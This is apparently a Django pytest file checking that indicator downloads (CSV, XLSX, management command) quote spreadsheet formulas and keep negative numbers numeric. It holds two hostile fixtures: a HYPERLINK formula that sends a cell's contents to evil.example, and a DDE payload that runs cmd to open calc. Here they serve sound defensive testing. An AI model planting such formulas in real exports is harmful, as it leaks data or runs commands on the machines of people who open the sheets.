"""Every indicator download keeps a hostile description or period label as text a spreadsheet will not
run (perfsite.spreadsheet), while real numbers, negative ones included, stay numbers (issue 12, finding 1)."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal
from io import StringIO

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from tests.indicators.conftest import add, make_indicator

HOSTILE_DESCRIPTION = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
HOSTILE_PERIOD = "-2+3+cmd|' /C calc'!A0"
Q4 = "2016-17-q4"


@pytest.fixture
def hostile(db):
    """One indicator whose description and period label are formulas, its latest figure negative."""
    indicator = make_indicator("EVIL 1", description=HOSTILE_DESCRIPTION, kind="tracker", polarity="neutral")
    indicator.unit = "number"
    indicator.save()
    add(indicator, "actual", "2017-01-01", "2017-03-31", "-4.5", label=HOSTILE_PERIOD)
    return indicator


def csv_rows(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8"))))


def sheet_cells(content: bytes) -> list:
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def assert_no_formula(cells) -> None:
    formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert formulas == []
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert "'" + HOSTILE_DESCRIPTION in texts
    assert not any(text.startswith(("=", "+", "@", "\t", "\r")) for text in texts)
    assert not any(text.startswith("-") and not text.lstrip("-").replace(".", "").isdigit() for text in texts)


def test_the_list_csv_quotes_formulas_and_keeps_negative_numbers(client, officer, hostile):
    client.force_login(officer)
    response = client.get(reverse("indicators:list"), {"quarter": Q4, "_export": "csv"})
    (row,) = csv_rows(response.content)
    assert row["Description"] == "'" + HOSTILE_DESCRIPTION
    assert row["Period covered"] == "'" + HOSTILE_PERIOD
    assert row["Latest"] == "-4.5"


def test_the_list_xlsx_has_no_formula(client, officer, hostile):
    client.force_login(officer)
    response = client.get(reverse("indicators:list"), {"quarter": Q4, "_export": "xlsx"})
    cells = sheet_cells(response.content)
    assert_no_formula(cells)
    assert "'" + HOSTILE_PERIOD in [cell.value for cell in cells]
    assert "-4.5" in [cell.value for cell in cells]


@pytest.mark.parametrize("fmt", ["yaml", "json", "ods", "latex"])
def test_the_list_offers_only_csv_and_xlsx(client, officer, hostile, fmt):
    client.force_login(officer)
    response = client.get(reverse("indicators:list"), {"quarter": Q4, "_export": fmt})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")


def test_the_quarter_csv_quotes_formulas_and_keeps_negative_numbers(client, officer, hostile):
    client.force_login(officer)
    response = client.get(reverse("indicators:quarter_export", args=[Q4, "csv"]))
    (row,) = csv_rows(response.content)
    assert row["description"] == "'" + HOSTILE_DESCRIPTION
    assert row["latest_period"] == "'" + HOSTILE_PERIOD
    assert row["latest"] == "-4.5"


def test_the_quarter_xlsx_has_no_formula_and_a_negative_number(client, officer, hostile):
    client.force_login(officer)
    response = client.get(reverse("indicators:quarter_export", args=[Q4, "xlsx"]))
    cells = sheet_cells(response.content)
    assert_no_formula(cells)
    assert "'" + HOSTILE_PERIOD in [cell.value for cell in cells]
    (latest,) = [cell for cell in cells if cell.data_type == "n" and cell.value is not None]
    assert Decimal(str(latest.value)) == Decimal("-4.5")


def test_the_quarter_json_is_data_not_a_sheet(client, officer, hostile):
    """JSON is read by programs, not spreadsheets: the text is exactly what was entered."""
    client.force_login(officer)
    (row,) = json.loads(client.get(reverse("indicators:quarter_export", args=[Q4, "json"])).content)
    assert (row["description"], row["latest_period"], row["latest"]) == (HOSTILE_DESCRIPTION, HOSTILE_PERIOD, "-4.5")


def test_the_export_scorecard_command_writes_safe_csv_and_xlsx(hostile, tmp_path):
    out = StringIO()
    call_command("export_scorecard", quarter=Q4, format="csv", stdout=out)
    (row,) = csv_rows(out.getvalue().encode())
    assert (row["description"], row["latest_period"], row["latest"]) == (
        "'" + HOSTILE_DESCRIPTION,
        "'" + HOSTILE_PERIOD,
        "-4.5",
    )
    path = tmp_path / "scorecard.xlsx"
    call_command("export_scorecard", quarter=Q4, format="xlsx", output=str(path), stderr=StringIO())
    assert_no_formula(sheet_cells(path.read_bytes()))
